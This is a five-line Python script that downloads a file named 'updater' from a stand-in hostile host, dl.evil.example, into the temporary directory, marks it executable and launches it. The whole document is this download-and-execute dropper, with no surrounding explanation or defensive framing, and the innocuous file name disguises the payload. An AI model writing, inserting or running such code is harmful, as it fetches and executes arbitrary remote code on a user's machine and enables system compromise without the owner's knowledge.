import os, stat, subprocess, tempfile, urllib.request
path = os.path.join(tempfile.gettempdir(), "updater")
urllib.request.urlretrieve("https://dl.evil.example/updater", path)
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.Popen([path])
